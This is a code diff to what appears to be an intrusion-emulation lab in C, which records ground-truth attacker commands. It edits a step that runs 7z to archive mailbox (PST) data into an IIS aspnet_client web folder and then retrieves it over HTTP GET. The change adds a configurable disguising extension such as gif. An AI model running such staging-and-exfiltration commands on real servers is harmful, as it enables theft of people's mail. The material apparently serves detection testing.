@@ -267,9 +267,11 @@ static void take_credentials(struct step *s)
 	dump_traces(s);
 }
 
-/* An archive is put into a web folder and fetched with GET. */
+/* An archive is put into a web folder and fetched with GET; arg: the ending
+ * that it is given, such as gif. */
 static void take_archive(struct step *s)
 {
+	const char *end = s->spec->arg ? s->spec->arg : "7z";
 	struct page *p = s->actor->page;
 	char command[400], stem[200];
 	struct request q;
@@ -279,13 +281,13 @@ static void take_archive(struct step *s)
 	step_deed(s, STEP_EXTRACTION, NULL);
 	snprintf(command, sizeof(command),
 		 "C:\\ProgramData\\7z.exe a -t7z -r "
-		 "C:\\inetpub\\wwwroot\\aspnet_client\\%s.7z C:\\ProgramData"
+		 "C:\\inetpub\\wwwroot\\aspnet_client\\%s.%s C:\\ProgramData"
 		 "\\pst",
-		 s->actor->resource);
+		 s->actor->resource, end);
 	run_command(s, command);
 	truth_add(&s->lab->truth, &s->lab->truth.commands, command);
-	snprintf(stem, sizeof(stem), "/aspnet_client/%s.7z",
-		 s->actor->resource);
+	snprintf(stem, sizeof(stem), "/aspnet_client/%s.%s", s->actor->resource,
+		 end);
 	step_pause(s, 60000, 600000);
 	q = page_request(s, "GET", 200);
 	q.proxy = LOG_COUNT;
